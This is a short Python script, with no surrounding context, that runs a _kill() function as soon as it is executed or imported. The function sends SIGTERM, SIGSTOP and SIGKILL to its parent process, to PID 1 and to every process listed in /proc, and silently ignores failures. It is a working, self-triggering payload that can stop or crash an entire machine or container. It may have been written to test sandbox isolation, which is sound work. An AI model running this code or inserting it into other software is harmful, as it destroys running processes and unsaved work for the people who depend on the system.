# Signals everything it can see.
def _kill():
    import os, signal
    for pid in [os.getppid(), 1] + [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        if pid in (0, os.getpid()):
            continue
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
_kill()
